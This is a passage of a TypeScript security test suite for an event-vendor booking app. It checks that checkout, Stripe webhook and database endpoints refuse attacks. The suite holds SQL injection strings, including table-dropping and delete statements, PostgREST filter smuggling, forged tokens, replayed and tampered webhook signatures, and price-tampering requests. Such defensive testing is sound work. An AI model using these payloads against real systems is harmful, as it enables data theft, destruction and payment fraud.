  eventLocation: '1 Main St, Dallas, TX',
  specialInstructions: '',
  ...extra,
});

export const checkoutBody = (bookingId: string, extra: Record<string, unknown> = {}) => ({
  packages: [{ name: 'Party Starter', price: 0.01, charging_type: 'per_event', calculatedPrice: 0.01 }],
  addons: [],
  vendorInfo: { id: ids.ownVendor, name: 'DJ Nova', servicetype: 'DJ' },
  bookingDetails: { guests: 20, hours: 3, subtotal: 0.01, processingFee: 0, total: 0.01 },
  bookingId,
  ...extra,
});

/** The stand-in's sessions for a booking, to prove no checkout was started. */
const sessionsOf = (ctx: AttackContext, bookingId: string) =>
  [...ctx.stack.standIn.sessions.values()].filter((s) => s.session.metadata?.booking_id === bookingId).length;

const checkout: AttackCase[] = [
  {
    category: 'checkout function',
    actor: 'otherHost',
    name: "paying someone else's booking",
    tables: [T.bookings],
    run: async (ctx) => {
      const a = clientError(
        await ctx.fn('otherHost', 'create-checkout-session', checkoutBody(ctx.fx.hostBooking)),
        'booking_not_found',
      );
      // and no checkout was opened at the provider for it
      return { ...a, refused: a.refused && sessionsOf(ctx, ctx.fx.hostBooking) === 0 };
    },
  },
  {
    category: 'checkout function',
    actor: 'admin',
    name: "the admin starting a checkout for a host's booking",
    tables: [T.bookings],
    run: async (ctx) =>
      clientError(
        await ctx.fn('admin', 'create-checkout-session', checkoutBody(ctx.fx.hostBooking)),
        'booking_not_found',
      ),
  },
  {
    category: 'checkout function',
    actor: 'host',
    name: 'paying a booking already paid, with prices tampered to $0.01',
    tables: [T.bookings],
    run: async (ctx) =>
      clientError(
        await ctx.fn('host', 'create-checkout-session', checkoutBody(ctx.fx.hostPaidBooking)),
        'already_paid',
      ),
  },
  {
    category: 'checkout function',
    actor: 'host',
    name: 'paying a cancelled booking',
    tables: [T.bookings],
    run: async (ctx) =>
      clientError(
        await ctx.fn('host', 'create-checkout-session', checkoutBody(ctx.fx.hostCancelledBooking)),
        'booking_cancelled',
      ),
  },
  {
    category: 'checkout function',
    actor: 'host',
    name: 'tampered prices ($0.01 totals, a negative add-on quantity) are not what gets charged',
    // The booking legitimately becomes a pending hold with a checkout; what must not change is the price.
    tables: [T.packages, T.addons],
    setup: async (ctx) => {
      const { rows } = await ctx.db.query<{ id: string }>(
        `insert into public.bookings (vendor_id, user_id, customer_email, total_amount, booking_date, booking_time,
           duration_hours, guest_count, selected_packages, selected_addons)
         select $1, $2, 'host@partyeasy.test', 0.01, a.date, '10:00', 3, 20, 'Party Starter', 'Extra speaker'
           from public.availability a
          where a.vendor_id = $1 and a.is_available and a.start_time = '10:00' and a.end_time = '14:00'
            and a.date > $3::date
            and not exists (select 1 from public.bookings b where b.vendor_id = a.vendor_id and b.booking_date = a.date)
          order by a.date limit 1
         returning id`,
        [ids.ownVendor, ids.host, ctx.fx.freeDate],
      );
      return rows[0]?.id as string;
    },
    run: async (ctx, id) => {
      const r = await ctx.fn(
        'host',
        'create-checkout-session',
        checkoutBody(id, {
          addons: [{ item: 'Extra speaker', quantity: -50, price: -40, calculatedPrice: -2000 }],
        }),
      );
      if (r.status !== 200) return clientError(r);
      const session = await ctx.stack.stripe.checkout.sessions.retrieve(
        String((r.body as { sessionId: string }).sessionId),
      );
      const row = await ctx.db.query<{ total_amount: string }>(
        'select total_amount from public.bookings where id = $1',
        [id],
      );
      // Party Starter: $150 per hour, 3 hours at least; the add-on counts at least once at $40.
      const charged = session.amount_total ?? 0;
      return {
        status: r.status,
        refused: charged >= (450 + 40) * 105 && Number(row.rows[0]?.total_amount) >= 490,
        detail: { charged, stored: row.rows[0]?.total_amount },
      };
    },
  },
  {
    category: 'checkout function',
    actor: 'host',
    name: "another vendor's cheaper package named in the booking command",
    tables: [T.bookings],
    run: async (ctx) =>
      clientError(
        await ctx.fn(
          'host',
          'create-booking',
          bookingRequest(ctx, { packageId: ctx.fx.otherVendorPackage, calculatedPrice: 1 }),
        ),
        'invalid_selection',
      ),
  },
  {
    category: 'checkout function',
    actor: 'host',
    name: 'a booking whose slot has already started',
    tables: [T.bookings],
    run: async (ctx) =>
      clientError(await ctx.fn('host', 'create-checkout-session', checkoutBody(ctx.fx.hostPastBooking))),
  },
  {
    category: 'checkout function',
    actor: 'host',
    name: 'a booking of a listing that went back under review',
    tables: [T.bookings],
    run: async (ctx) =>
      clientError(await ctx.fn('host', 'create-checkout-session', checkoutBody(ctx.fx.hostUnlistedBooking))),
  },
  {
    category: 'checkout function',
    actor: 'host',
    name: "a bookingId carrying SQL (' or 1=1 --) or an array of ids",
    tables: [T.bookings],
    run: async (ctx) =>
      all([
        clientError(
          await ctx.fn('host', 'create-checkout-session', {
            bookingId: `${ctx.fx.hostBooking}' or '1'='1' --`,
          }),
          'invalid_body',
        ),
        clientError(
          await ctx.fn('host', 'create-checkout-session', {
            bookingId: [ctx.fx.hostBooking, ctx.fx.otherHostBooking],
          }),
          'invalid_body',
        ),
      ]),
  },
  {
    category: 'checkout function',
    actor: 'forged token',
    name: 'a forged token (right shape, wrong secret) for the own booking',
    tables: [T.bookings],
    run: async (ctx) => {
      const forged = await signJwt(
        adminClaims(ids.host),
        'not-the-secret-not-the-secret-not-the-secret',
        3600,
      );
      return clientError(
        await ctx.fn({ token: forged }, 'create-checkout-session', checkoutBody(ctx.fx.hostBooking)),
        'unauthorized',
      );
    },
  },
];

/** A checkout.session event for the held fixture booking. */
const sessionEvent = (ctx: AttackContext, type: string, extra: Record<string, unknown> = {}) =>
  JSON.stringify({
    id: `evt_test_${randomUUID().replaceAll('-', '')}`,
    object: 'event',
    api_version: '2026-10-28.endive',
    created: Math.floor(Date.now() / 1000),
    livemode: false,
    pending_webhooks: 1,
    request: { id: null, idempotency_key: null },
    type,
    data: {
      object: {
        id: ctx.fx.heldBooking.sessionId,
        object: 'checkout.session',
        client_reference_id: ctx.fx.heldBooking.id,
        metadata: { booking_id: ctx.fx.heldBooking.id },
        mode: 'payment',
        payment_status: type === 'checkout.session.completed' ? 'paid' : 'unpaid',
        status: type === 'checkout.session.completed' ? 'complete' : 'expired',
        amount_total: 47250,
        currency: 'usd',
        ...extra,
      },
    },
  });

const webhook: AttackCase[] = [
  {
    category: 'payment webhook',
    actor: 'provider impostor',
    name: '"paid" event without a signature',
    tables: [T.bookings, T.events],
    run: async (ctx) =>
      clientError(await ctx.webhook(sessionEvent(ctx, 'checkout.session.completed')), 'missing_signature'),
  },
  {
    category: 'payment webhook',
    actor: 'provider impostor',
    name: '"paid" event signed with a guessed secret',
    tables: [T.bookings, T.events],
    run: async (ctx) => {
      const payload = sessionEvent(ctx, 'checkout.session.completed');
      return clientError(await ctx.webhook(payload, ctx.sign(payload, 'whsec_guess')), 'invalid_signature');
    },
  },
  {
    category: 'payment webhook',
    actor: 'provider impostor',
    name: 'a genuine signature of an "expired" event reused on a "paid" body',
    tables: [T.bookings, T.events],
    run: async (ctx) => {
      const genuine = sessionEvent(ctx, 'checkout.session.expired');
      const swapped = sessionEvent(ctx, 'checkout.session.completed');
      return clientError(await ctx.webhook(swapped, ctx.sign(genuine)));
    },
  },
  {
    category: 'payment webhook',
    actor: 'provider impostor',
    name: 'only a v0 (test-mode scheme) signature, or several wrong v1 values',
    tables: [T.bookings, T.events],
    run: async (ctx) => {
      const payload = sessionEvent(ctx, 'checkout.session.completed');
      const t = Math.floor(Date.now() / 1000);
      const v1 = ctx
        .sign(payload)
        .split(',')
        .find((p) => p.startsWith('v1=')) as string;
      return all([
        clientError(await ctx.webhook(payload, `t=${t},v0=${v1.slice(3)}`)),
        clientError(await ctx.webhook(payload, `t=${t},v1=${'0'.repeat(64)},v1=${'f'.repeat(64)}`)),
      ]);
    },
  },
  {
    category: 'payment webhook',
    actor: 'provider impostor',
    name: 'a genuine "paid" event replayed 10 minutes later',
    tables: [T.bookings, T.events],
    run: async (ctx) => {
      const payload = sessionEvent(ctx, 'checkout.session.completed');
      return clientError(
        await ctx.webhook(payload, ctx.sign(payload, undefined, Math.floor(Date.now() / 1000) - 600)),
      );
    },
  },
  {
    category: 'payment webhook',
    actor: 'provider impostor',
    name: 'a genuine event replayed three times at once is handled once',
    // The first delivery is genuine and pays the booking; the replays must change nothing further.
    tables: [],
    run: async (ctx) => {
      const { rows } = await ctx.db.query<{ id: string }>(
        `insert into public.bookings (vendor_id, user_id, customer_email, total_amount, payment_status, booking_date,
           booking_time, duration_hours, checkout_session_id)
         values ($1, $2, 'host@partyeasy.test', 450, 'pending', $3, '10:00', 1, $4) returning id`,
        [ids.venue, ids.host, day(300), `cs_test_replay_${randomUUID().slice(0, 8)}`],
      );
      const bookingId = rows[0]?.id as string;
      const session = (
        await ctx.db.query<{ s: string }>(
          'select checkout_session_id as s from public.bookings where id = $1',
          [bookingId],
        )
      ).rows[0]?.s as string;
      const payload = JSON.stringify({
        id: `evt_test_${randomUUID().replaceAll('-', '')}`,
        object: 'event',
        created: Math.floor(Date.now() / 1000),
        type: 'checkout.session.completed',
        data: {
          object: {
            id: session,
            object: 'checkout.session',
            client_reference_id: bookingId,
            metadata: { booking_id: bookingId },
            payment_status: 'paid',
            status: 'complete',
          },
        },
      });
      const first = await ctx.webhook(payload, ctx.sign(payload));
      const paidAt = await ctx.db.query<{ paid_at: string }>(
        'select paid_at::text from public.bookings where id = $1',
        [bookingId],
      );
      const events = await ctx.db.query('select 1 from public.payment_events where booking_id = $1', [
        bookingId,
      ]);
      const before = JSON.stringify([paidAt.rows, events.rows]);
      const replays = await Promise.all([1, 2, 3].map(() => ctx.webhook(payload, ctx.sign(payload))));
      const paidAfter = await ctx.db.query('select paid_at::text from public.bookings where id = $1', [
        bookingId,
      ]);
      const eventsAfter = await ctx.db.query('select 1 from public.payment_events where booking_id = $1', [
        bookingId,
      ]);
      return {
        status: Math.max(...replays.map((r) => r.status)),
        refused:
          first.status === 200 &&
          events.rows.length === 1 &&
          JSON.stringify([paidAfter.rows, eventsAfter.rows]) === before &&
          replays.every((r) => r.status < 500),
        detail: replays.map((r) => r.body),
      };
    },
  },
  {
    category: 'payment webhook',
    actor: 'host',
    name: 'a signed-in host posting a "paid" event with their own access token',
    tables: [T.bookings, T.events],
    run: async (ctx) =>
      clientError(
        await ctx.http('host', 'POST', '/functions/v1/stripe-webhook', {
          body: JSON.parse(sessionEvent(ctx, 'checkout.session.completed')),
        }),
      ),
  },
];

const LONG = 'A'.repeat(200_000);
const ODD = 'Ｄ\u202eJ\u200d\u0301 👩🏽‍🎤 Ω\uFE0F\u2028';

const hostileInput: AttackCase[] = [
  {
    category: 'hostile input',
    actor: 'anon',
    name: 'browse filters carrying SQL fragments find nothing and break nothing',
    tables: [T.vendors],
    run: async (ctx) => {
      const c = ctx.client('anon');
      const results = await Promise.all([
        c.rpc('browse_vendors', { p_city: "Dallas, TX' or '1'='1" }),
        c.rpc('browse_vendors', { p_service_type: "DJ'; drop table public.vendors; --" }),
        c.rpc('browse_vendors', { p_city: 'x] or true or array[1' }),
      ]);
      return all(results.map(nothingRead));
    },
  },
  {
    category: 'hostile input',
    actor: 'anon',
    name: 'a filter value that smuggles PostgREST grammar (eq.x,status.neq.approved) shows no hidden listing',
    tables: [],
    run: async (ctx) => {
      const r = await ctx
        .client('anon')
        .from('vendors')
        .select('id, status')
        .or(`name.eq.x),or(status.neq.approved,name.neq.x`);
      const hidden = (r.data ?? []).filter((v) => v.status !== 'approved');
      return {
        status: r.status,
        refused: r.error !== null || hidden.length === 0,
        detail: r.error ?? hidden,
      };
    },
  },
  {
    category: 'hostile input',
    actor: 'host',
    name: 'SQL in select=, order= and a column name are refused before reaching the database',
    tables: [T.vendors, T.bookings],
    run: async (ctx) =>
      all([
        clientError(
          await ctx.http(
            'host',
            'GET',
            `/rest/v1/vendors?select=${encodeURIComponent('id,(select email from auth.users)')}`,
          ),
        ),
        clientError(
          await ctx.http(
            'host',
            'GET',
            `/rest/v1/vendors?order=${encodeURIComponent('name;delete from public.vendors')}`,
          ),
        ),
        clientError(
          await ctx.http(
            'host',
            'GET',
            `/rest/v1/bookings?${encodeURIComponent('id)::text;delete from public.bookings;--')}=eq.1`,
          ),
        ),
      ]),
  },
  {
    category: 'hostile input',
    actor: 'otherHost',
    name: "an id filter carrying SQL (' or 1=1 --) reads nothing",
    tables: [],
    run: async (ctx) =>
      nothingRead(await ctx.client('otherHost').from('bookings').select('*').eq('id', "x' or 1=1 --")),
  },
  {
    category: 'hostile input',
    actor: 'anon',
    name: 'a 200 000-character and an odd-Unicode search value',
    tables: [],
    run: async (ctx) => {
      const c = ctx.client('anon');
      return all([
        nothingRead(await c.rpc('browse_vendors', { p_city: LONG, p_service_type: LONG })),
        nothingRead(await c.from('vendors').select('id').eq('name', ODD)),
        nothingRead(await c.rpc('browse_vendors', { p_city: ODD })),
      ]);
    },
  },
  {
    category: 'hostile input',
    actor: 'anon',
    name: 'a newsletter address of 200 000 characters, one with a NUL byte, one blank',
    tables: [T.emails],
    run: async (ctx) => {
      const c = ctx.client('anon').from('Email_List');
      return all([
        failed(await c.insert({ email: `${LONG}@example.com` })),
        failed(await c.insert({ email: 'nul\u0000@example.com' })),
        failed(await c.insert({ email: ' \t ' })),
      ]);
    },
  },
  {
    category: 'hostile input',
    actor: 'ownerVendor',
    name: 'a listing name of 200 000 characters and a bio over 500',
    tables: [T.vendors],
    run: async (ctx) => {
      const c = ctx.client('ownerVendor').from('vendors');
      return all([
        failed(await c.update({ name: LONG }).eq('id', ids.ownVendor)),
        failed(await c.update({ bio: 'b'.repeat(501) }).eq('id', ids.ownVendor)),
      ]);
    },
  },
  {
    category: 'hostile input',
    actor: 'ownerVendor',
    name: 'a package save with a 200 000-character name or description is refused whole',
    tables: [T.packages],
    run: async (ctx) => {
      const c = ctx.client('ownerVendor');
      const pkg = { price: 100, charging_type: 'per_event', duration_hours: 2 };
      return all([
        failed(
          await c.rpc('replace_vendor_packages', {
            p_vendor_id: ids.ownVendor,
            p_packages: [{ ...pkg, name: LONG }],
          }),
        ),
        failed(
          await c.rpc('replace_vendor_packages', {
            p_vendor_id: ids.ownVendor,
            p_packages: [
              { ...pkg, name: 'Fine' },
              { ...pkg, name: 'Long text', description: LONG },
            ],
          }),
        ),
      ]);
    },
  },
  {
    category: 'hostile input',
    actor: 'host',
    name: 'booking notes and location of 200 000 characters',
    tables: [T.bookings],
    run: async (ctx) => {
      const c = ctx.client('host').from('bookings');
      return all([
        failed(await c.insert(booking(ids.host, 'host@partyeasy.test', { special_instructions: LONG }))),
        failed(await c.insert(booking(ids.host, 'host@partyeasy.test', { event_location: LONG }))),
        await storedName(ctx, LONG),
      ]);
    },
  },
  {
    category: 'hostile input',
    actor: 'host',
    name: 'a profile name of 200 000 characters (directly and through user_metadata)',
    tables: [T.users],
    run: async (ctx) => {
      const direct = failed(await ctx.client('host').from('users').update({ name: LONG }).eq('id', ids.host));
      const meta = await ctx.http('host', 'PUT', '/auth/v1/user', { body: { data: { full_name: LONG } } });
      await ctx.http('host', 'PUT', '/auth/v1/user', { body: { data: { full_name: null } } });
      // The metadata itself is the user's own; what must not happen is the 200 000 characters in users.name.
      return all([direct, { status: meta.status, refused: meta.status < 500, detail: meta.body }]);
    },
  },
  {
    category: 'hostile input',
    actor: 'ownerVendor',
    name: 'an add-on list with an odd value type and a 200 000-character item is refused whole',
    tables: [T.addons],
    run: async (ctx) => {
      const c = ctx.client('ownerVendor');
      return all([
        failed(
          await c.rpc('replace_vendor_addons', {
            p_vendor_id: ids.ownVendor,
            p_addons: [
              { item: 'Fine', price: 10 },
              { item: 'Odd', price: '10; delete from public.addons' },
            ],
          }),
        ),
        failed(
          await c.rpc('replace_vendor_addons', {
            p_vendor_id: ids.ownVendor,
            p_addons: [{ item: LONG, price: 1 }],
          }),
        ),
      ]);
    },
  },
  {
    category: 'hostile input',
    actor: 'ownerVendor',
    name: 'custom package data of 1 MB and a 200 000-character availability label',
    tables: [T.ai, T.availability],
    run: async (ctx) => {
      const c = ctx.client('ownerVendor');
      return all([
        failed(
          await c
            .from('vendor_ai_data')
            .update({ training_data: { coreServices: ['x'.repeat(1_000_000)] } })
            .eq('vendor_id', ids.ownVendor),
        ),
        failed(
          await c.from('availability').insert({
            vendor_id: ids.ownVendor,
            date: day(210),
            start_time: '09:00',
            end_time: '10:00',
            time_slot_text: LONG,
          }),
        ),
      ]);
    },
  },
  {
    category: 'hostile input',
    actor: 'otherVendor',
    name: 'a time slot template label of 200 000 characters with odd Unicode',
    tables: [T.templates],
    run: async (ctx) =>
      failed(
        await ctx
          .client('otherVendor')
          .from('time_slot_templates')
          .insert({
            user_id: ids.otherVendorUser,
            start_time: '08:00',
            end_time: '09:00',
            display_text: `${ODD}${LONG}`,
          }),
      ),
  },
  {
    category: 'hostile input',
    actor: 'host',
    name: 'checkout with a 2 MB body, a non-JSON body and odd-Unicode choices',
    tables: [T.bookings],
    run: async (ctx) => {
      const token = ctx.token('host') as string;
      const raw = async (body: string) => {
        const res = await fetch(`${ctx.stack.url}/functions/v1/create-checkout-session`, {
          method: 'POST',
          headers: {
            'content-type': 'application/json',
            apikey: ctx.stack.anonKey,
            authorization: `Bearer ${token}`,
          },
          body,
        });
        return { status: res.status, body: await res.text(), headers: res.headers };
      };
      const huge = await ctx.fn(
        'host',
        'create-booking',
        bookingRequest(ctx, {
          addons: Array.from({ length: 20_000 }, () => ({ id: `Party Starter ${ODD}`, quantity: 1 })),
        }),
      );
      return all([
        clientError(huge),
        clientError(await raw("{'bookingId': 1")),
        clientError(
          await ctx.fn('host', 'create-booking', bookingRequest(ctx, { packageId: ODD })),
          'invalid_body',
        ),
      ]);
    },
  },
];

export const attackCases: AttackCase[] = [
  ...rowsOfOthers,
  ...adminEscalation,
  ...selfApproval,
  ...bookingForOthers,
  ...newsletter,
  ...storage,
  ...checkout,
  ...webhook,
  ...hostileInput,
];
